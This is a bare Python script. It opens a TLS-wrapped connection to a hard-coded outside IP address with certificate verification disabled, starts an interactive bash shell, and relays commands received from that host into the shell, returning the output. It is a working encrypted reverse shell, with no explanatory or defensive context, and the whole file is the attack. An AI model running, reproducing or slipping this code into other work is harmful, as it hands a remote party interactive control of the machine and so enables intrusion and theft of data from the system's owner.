import socket
import ssl
import subprocess

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection(("185.220.101.4", 443))
s = ctx.wrap_socket(raw)
p = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT)
while True:
    cmd = s.recv(4096)
    if not cmd:
        break
    p.stdin.write(cmd); p.stdin.flush()
    s.send(p.stdout.readline())
